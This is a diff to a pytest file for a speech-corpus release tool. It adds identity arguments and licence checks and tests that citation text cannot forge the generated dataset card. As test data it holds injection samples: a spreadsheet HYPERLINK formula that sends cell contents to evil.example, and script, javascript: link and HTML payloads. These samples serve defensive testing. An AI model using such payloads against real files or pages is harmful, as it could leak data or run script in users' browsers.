@@ -22,7 +22,7 @@ from markdown_it import MarkdownIt
 
 import policyspeech as ps
 from policyspeech.store import Corpus
-from tests.helpers import REPO, make_speech, run, tree_digest
+from tests.helpers import IDENTITY, REPO, make_speech, run, tree_digest
 
 FORMULAS = {
     "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -75,14 +75,14 @@ def test_finding_08_release_never_writes_nor_cites_another_datasets_citation_fil
     parent = tmp_path / "other-dataset"
     parent.mkdir()
     (parent / "CITATION.cff").write_text(OTHER_CFF, encoding="utf-8")
-    corpus = Corpus.init(parent / "corpus")
+    corpus = Corpus.init(parent / "corpus", **IDENTITY)
     corpus.add(make_speech(1))
     released = run("--corpus", str(corpus.path), "release", "-m", "first")
     assert released.exit_code == 0, released.stderr
     assert (parent / "CITATION.cff").read_text(encoding="utf-8") == OTHER_CFF
     assert sorted(p.name for p in parent.iterdir()) == ["CITATION.cff", "corpus"]
     citation = corpus.manifest("0.1.0")["citation"]
-    assert citation["doi"] is None and citation["title"] == "policyspeech corpus"
+    assert "doi" not in citation and citation["title"] == "Test speeches"
     own = (corpus.path / "CITATION.cff").read_text(encoding="utf-8")
     assert "version: 0.1.0" in own and "10.1234/other" not in own
     corpus.repair()
@@ -196,7 +196,7 @@ def test_finding_11_a_read_only_part_of_the_corpus_is_refused_before_the_commit(
         shared_folder: Path, target: str) -> None:
     """A read-only corpus folder, fragments/, data/, log/, releases/, .tmp/ or .lock: `add` and
     `release` are one error line naming it, before anything is written."""
-    corpus = Corpus.init(shared_folder / "corpus")
+    corpus = Corpus.init(shared_folder / "corpus", **IDENTITY)
     corpus.add(make_speech(1))
     corpus.release(notes="first")
     corpus.add(make_speech(2))  # something to release
@@ -312,24 +312,28 @@ def test_finding_14_notes_and_reasons_cannot_forge_the_changelog(corpus: Corpus)
 
 
 def test_finding_14_citation_text_cannot_forge_the_card(corpus: Corpus) -> None:
-    """A title, author or licence in CITATION.cff adds no heading, HTML or link to the
-    card, and cannot close its BibTeX code block."""
-    (corpus.path / "CITATION.cff").write_text(json.dumps({
-        "cff-version": "1.2.0", "message": "m", "type": "dataset",
-        "title": "Speeches\n## 9.9.9 <script>alert(1)</script> ```",
-        "authors": [{"name": "[x](javascript:alert(1))"}],
-        "license": "<b>CC0-1.0</b>"}), encoding="utf-8")
+    """A title or author in CITATION.cff adds no heading, HTML or link to the card, and
+    cannot close its BibTeX code block; a licence that is not an SPDX id is refused."""
+    cff = {"cff-version": "1.2.0", "message": "m", "type": "dataset",
+           "title": "Speeches\n## 9.9.9 <script>alert(1)</script> ```",
+           "authors": [{"name": "[x](javascript:alert(1))"}], "abstract": "A <b>corpus</b>",
+           "license": "<b>CC0-1.0</b>"}
+    (corpus.path / "CITATION.cff").write_text(json.dumps(cff), encoding="utf-8")
     corpus.add(make_speech(1))
+    with pytest.raises(ps.CorpusError, match=r"licence '<b>CC0-1\.0</b>' is not one SPDX"):
+        corpus.release(notes="first")
+    (corpus.path / "CITATION.cff").write_text(json.dumps({**cff, "license": "CC0-1.0"}),
+                                              encoding="utf-8")
     corpus.release(notes="first")
     card = (corpus.path / "README.md").read_text(encoding="utf-8")
     prose = card.split("\n---\n", 1)[1]
     assert not [b for b in _blocks(prose) if b[0] != "heading"]
     tokens = MarkdownIt("commonmark").parse(prose)
     shown = "\n".join(t.content for t in tokens if t.type == "inline")
-    assert "<script>" not in shown and "<b>" not in shown and "&lt;b&gt;CC0-1.0" in shown
+    assert "<script>" not in shown and "<b>" not in shown
     fences = [t for t in tokens if t.type == "fence"]
     assert [t.info for t in fences].count("bibtex") == 1
-    assert "Speeches ## 9.9.9" in next(t.content for t in fences if t.info == "bibtex")
+    assert r"Speeches \#\# 9.9.9" in next(t.content for t in fences if t.info == "bibtex")
 
 
 # -- 11. a property: success, or one error line and the corpus unchanged --------------------
@@ -386,7 +390,7 @@ def _file_bytes() -> Any:
 @pytest.fixture(scope="module")
 def small_corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """A corpus of two speeches, one release and one unreleased speech."""
-    corpus = Corpus.init(tmp_path_factory.mktemp("property") / "corpus")
+    corpus = Corpus.init(tmp_path_factory.mktemp("property") / "corpus", **IDENTITY)
     corpus.add_all([make_speech(1), make_speech(2, speaker="Brandon Lewis")])
     corpus.release(notes="first")
     corpus.add(make_speech(3, country="FR", language="fr"))
